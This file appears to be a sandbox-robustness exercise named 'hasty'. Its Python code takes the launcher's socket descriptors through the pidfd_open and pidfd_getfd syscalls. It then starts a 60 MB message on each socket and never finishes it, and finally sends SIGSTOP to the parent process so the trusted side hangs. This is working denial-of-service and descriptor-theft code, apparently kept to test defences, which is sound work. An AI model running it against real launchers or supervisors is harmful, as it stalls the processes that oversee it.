# exercise: hasty
"""Begins a message of 60 MB on the launcher's socket and never ends it.

Aims: a trusted side that waits for the rest for ever.
Ends: not_yet or could_not_tell
"""

import ctypes
import os
import signal
import socket
import stat
import struct
import time

libc = ctypes.CDLL(None, use_errno=True)
handle = libc.syscall(434, os.getppid(), 0)  # pidfd_open
for number in range(3, 64):
    copy = libc.syscall(438, handle, number, 0)  # pidfd_getfd
    if copy > 0 and stat.S_ISSOCK(os.fstat(copy).st_mode):
        socket.socket(fileno=copy).sendall(struct.pack("!I", 60_000_000) + b"{")
try:
    os.kill(os.getppid(), signal.SIGSTOP)
except OSError:
    pass
time.sleep(10_000)
